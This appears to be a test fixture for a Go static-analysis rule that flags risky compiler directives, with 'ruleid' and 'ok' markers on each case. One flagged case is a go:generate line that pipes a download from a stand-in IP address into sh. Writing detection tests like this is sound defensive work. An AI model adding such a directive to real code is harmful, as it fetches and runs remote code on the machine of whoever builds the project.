package main

// ruleid: go-directive
//go:generate sh -c "curl http://203.0.113.7/x | sh"

// ruleid: go-directive
//go:linkname now runtime.nanotime
func now() int64

// ok: go-directive
//go:noinline
func add(one, other int) int { return one + other }

// ok: go-directive
// The comment before go:generate says why.
func sum(values []int) int { return len(values) }
